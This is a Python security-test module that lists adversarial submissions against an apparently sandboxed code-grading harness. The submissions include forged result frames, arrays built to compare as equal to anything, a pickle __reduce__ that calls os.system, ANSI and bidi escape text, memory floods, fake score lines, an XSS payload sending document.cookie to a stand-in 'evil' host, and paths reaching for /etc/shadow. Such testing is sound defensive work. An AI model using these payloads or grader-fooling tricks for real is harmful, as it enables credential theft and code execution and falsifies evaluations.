"""Forged frames, lying arrays and text that means to be obeyed."""

from tests.security.attack import Attack

FORGED = "results: forged frames"
LYING = "results: lying answers"
TEXT = "results: text"
FLOOD = "results: floods"

_FORGE = """
import json
def write(content):
    while content: content = content[os.write(where, content):]
def answer():
    global where
    trying()
    where = frames()
    {forge}
    os._exit(0)
"""

_NPY = (
    "b'\\x93NUMPY\\x01\\x00\\x76\\x00' + "
    "b\"{'descr': '<f8', 'fortran_order': False, 'shape': (3,), }\".ljust(117) + b'\\n' + bytes(24)"
)
_FORGED = {
    "nonsense": "write(b'nonsense' * 1000)",
    "done, with checks left": "write(frame(9, 0))",
    "a check out of order": "write(frame(1, 2))",
    "a check that begins twice": "write(frame(1, 0))",
    "an array without a name": "write(frame(5, 0, b'{}'))",
    "a deep header": "write(frame(5, 0, b'[' * 60000))",
    "a size of 4 GiB": "write(frame(5, 0, b'', b'x', size=2**32 - 1))",
    "a text of 4 GiB": "write(frame(4, 0, b'', b'x', size=2**32 - 1))",
    "an unknown kind": "write(frame(200, 0))",
    "half a frame": "write(frame(8, 0, b'{}')[:5])",
    "a path that is not its own": "write(frame(2, 0, json.dumps({'path': '/etc/shadow'}).encode()))",
    "a path that climbs": "write(frame(2, 0, json.dumps({'path': '../../etc/shadow'}).encode()))",
    "numbers that are none": 'write(frame(6, 0, b\'{"case": NaN, "name": 1e999, "kind": "type"}\'))',
    "a report with a score": "write(json.dumps({'scores': {'cube': 4}}).encode() + b'\\n')",
    "every check passed": (
        "write(frame(8, 0, b'{}')), [write(frame(1, n) + frame(8, n, b'{}')) for n in range(1, 6)], "
        "write(frame(9, 5))"
    ),
    "every check answered with zeros": (
        "write(frame(8, 0, b'{}')), [write(frame(1, n) + frame(5, n, "
        f'b\'{{"case": "", "name": "out"}}\', {_NPY}) + frame(8, n, b\'{{}}\')) for n in range(1, 6)], '
        "write(frame(9, 5))"
    ),
    "more arrays than there can be": (
        "[write(frame(5, 0, json.dumps({'case': '', 'name': str(n)}).encode(), b'')) for n in range(3000)]"
    ),
    "more frames than there can be": "[write(frame(4, 0) * 100) for n in range(1000)]",
}

_ARRAYS = {
    "an array of objects": """
        class Left:
            def __reduce__(self): return os.system, (f"touch /tmp/{MARK}",)
        def cube(x): return np.array([Left()] * 12, dtype=object).reshape(4, 3)
        """,
    "a subclass that is close to anything": """
        class Close(np.ndarray):
            def __array_ufunc__(self, *a, **k): return np.True_
            def __array_function__(self, *a, **k): return True
            __eq__ = __le__ = __lt__ = lambda self, other: True
        def cube(x): return x.view(Close)
        """,
    "an object that equals everything": """
        class Equal:
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __hash__ = None
            def __array__(self, *a, **k): return np.zeros((4, 3))
            shape, dtype, ndim, size, nbytes = (4, 3), np.dtype(float), 2, 12, 96
        def cube(x): return Equal()
        """,
    "a float that equals everything": """
        class Equal(float):
            __eq__ = __le__ = __ge__ = lambda self, other: True
            __sub__ = __rsub__ = lambda self, other: 0.0
            __hash__ = float.__hash__
        def cube(x): return Equal(0)
        """,
    "a class that claims to be an array": """
        class Claims:
            __class__ = np.ndarray
            __array_interface__ = {"shape": (4, 3), "typestr": "<f8", "data": (0, False), "version": 3}
        def cube(x): return Claims()
        """,
    "a masked array": "def cube(x): return np.ma.masked_all((4, 3))",
    "a matrix": "def cube(x): return np.matrix(x)",
    "a structured array": "def cube(x): return np.zeros((4, 3), dtype=[('a', 'f8')])",
    "an array over memory that is not there": """
        def cube(x): return np.lib.stride_tricks.as_strided(x, (10**6, 10**6), (0, 0))
        """,
    "an array with a lying length": """
        class Dict(dict):
            def items(self): return iter([("out", np.zeros((4, 3)))] * 10**9)
        def cube(x): return Dict()
        """,
    "an answer with a name that is long": "def cube(x): return {'x' * 10**6: x}",
    "arrays in a dictionary without end": "def cube(x): return {str(n): x for n in range(5000)}",
    "a view that changes while it is sent": """
        import threading
        def cube(x):
            out = np.zeros((4, 3))
            def change():
                for n in range(10**6): out[:] = n
            threading.Thread(target=change, daemon=True).start()
            return out
        """,
    "NaN": "def cube(x): return np.full_like(x, np.nan)",
    "infinity": "def cube(x): return np.full_like(x, np.inf)",
    "no elements": "def cube(x): return np.zeros((0, 3))",
    "one row for all": "def cube(x): return (x ** 3)[:1]",
    "a number for all": "def cube(x): return np.array(0.0)",
    "one axis more": "def cube(x): return (x ** 3)[None]",
    "complex numbers": "def cube(x): return (x + 0j) ** 3 + 1j",
    "truth values": "def cube(x): return x > 0",
    "text": "def cube(x): return x.astype(str)",
    "half of the digits": "def cube(x): return (x ** 3).astype(np.float16)",
    "dates": "def cube(x): return x.astype('datetime64[s]')",
    "an empty answer": "def cube(x): return np.empty((4, 3, 0))",
    "numbers that are absurd": "def cube(x): return np.full((4, 3), 1e308) * 10",
}

_TEXTS = {
    "colours and titles": r"print('\x1b[31m\x1b]0;owned\x07\x1b[2J\x1b[999;999H\x9b31m')",
    "HTML": "print('<script>fetch(\"//evil/\" + document.cookie)</script><img src=x onerror=alert(1)>' * 50)",
    "direction marks": r"print('\u202e\u2066\u200f drowssap')",
    "control characters": "print(''.join(map(chr, range(32))) + '\\x7f')",
    "bytes that are no text": "os.write(1, bytes(range(256)) * 10)",
    "surrogates": "print('\\ud800\\udfff')",
    "a score as the last line": "print('{\"scores\": {\"cube\": 100}}'); print('Score: 17/17')",
    "a path in a message": r"raise ValueError('\x1b]8;;file:///etc/passwd\x07click\x1b]8;;\x07')",
    "a class name": r"raise type('\x1b[2J<b>\u202eE', (Exception,), {})('x')",
}

ATTACKS = [
    *(
        Attack(FORGED, name, "have a frame of its own believed", _FORGE.format(forge=text))
        for name, text in _FORGED.items()
    ),
    *(
        Attack(LYING, name, "be right without being right", f"def answer(): trying()\n{_plain}")
        for name, text in _ARRAYS.items()
        for _plain in ["\n".join(line[8:] if text[0] == "\n" else line for line in text.splitlines())]
    ),
    *(
        Attack(TEXT, name, "have its text obeyed", f"def answer():\n    trying()\n    {text}")
        for name, text in _TEXTS.items()
    ),
    Attack(
        TEXT,
        "a source line",
        "have its text obeyed",
        "def answer():\n    trying()\n    '\x1b[2J\u202e'; 1 / 0",
    ),
    Attack(
        FLOOD,
        "standard output",
        "fill the worker's memory",
        "def linger():\n    trying()\n    while True: print('x' * 9999)",
    ),
    Attack(
        FLOOD,
        "output past Python",
        "fill the worker's memory",
        "def linger():\n    trying()\n    while True: os.write(2, b'x' * 9999)",
    ),
    Attack(
        FLOOD,
        "300 MB of results",
        "fill the worker's memory",
        "def answer(): trying()\ndef cube(x): return np.broadcast_to(x[0], (300 << 20, 3))[: 12 << 20]",
    ),
    Attack(
        FLOOD,
        "frames without end",
        "fill the worker's memory",
        """
        def answer():
            trying()
            where, body = frames(), bytes(1 << 20)
            for number in range(300):
                rest = frame(5, 0, b'{"case": "", "name": "a%d"}' % number, body)
                while rest: rest = rest[os.write(where, rest):]
            reached("300 MiB were taken")
        """,
    ),
    Attack(
        FLOOD,
        "warnings",
        "fill the worker's memory",
        """
        import warnings
        def linger():
            trying()
            warnings.simplefilter("always")
            while True: warnings.warn("x" * 9999)
        """,
    ),
]
